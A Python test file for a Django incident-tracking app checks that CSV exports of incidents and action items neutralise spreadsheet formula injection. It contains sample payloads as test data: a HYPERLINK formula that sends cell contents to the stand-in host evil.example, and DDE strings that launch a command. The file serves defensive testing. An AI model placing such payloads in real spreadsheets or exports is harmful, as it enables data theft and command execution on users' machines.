"""No CSV download carries a live spreadsheet formula, whoever wrote the text (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from integrations.samples import ALERTMANAGER

from unblame.actions.models import ActionItem
from unblame.incidents.models import Incident, Service
from unblame.incidents.triage import TriageEntry
from unblame.integrations.models import AlertSource
from unblame.server.spreadsheet import FORMULA_STARTS, safe_cell, safe_row

from .actions_cast import *  # noqa: F403
from .test_alert_webhook import notification, post

HYPERLINK = '=HYPERLINK("http://evil.example/"&A2,"open")'


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Checkout errors", " =1", "a=b", "", 5, -3, 2.5, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.none()), max_size=8))
def test_no_text_cell_of_a_safe_row_starts_a_formula(row):
    for before, after in zip(row, safe_row(row), strict=True):
        if isinstance(after, str):
            assert not after.startswith(FORMULA_STARTS)
            assert after.removeprefix("'") == before or after == before


def test_the_incident_export_neutralises_a_formula_title_and_service(as_viewer, incident):
    Incident.objects.filter(pk=incident.pk).update(title=HYPERLINK)
    incident.services.set([Service.objects.create(name="@evil")])
    rows = rows_of(as_viewer.get("/incidents/export.csv"))
    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][4] == "'@evil"


def test_a_formula_title_from_an_alert_is_neutralised_in_the_export(as_viewer, sev2):
    source = AlertSource(name="prometheus", default_severity=sev2)
    source.token = source.new_token()
    source.save()
    labels = {**ALERTMANAGER["alerts"][0]["labels"], "alertname": HYPERLINK}
    body = {**notification(labels=labels), "commonLabels": {}}
    assert post(Client(), source, body).status_code == 201
    TriageEntry.waiting().get().declare(None, sev2)
    [row] = rows_of(as_viewer.get("/incidents/export.csv"))[1:]
    assert row[1].startswith("'=HYPERLINK")


def test_the_action_item_export_neutralises_formula_titles(as_viewer, incident, item):
    ActionItem.objects.filter(pk=item.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    rows = rows_of(as_viewer.get("/actions/export.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("title")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
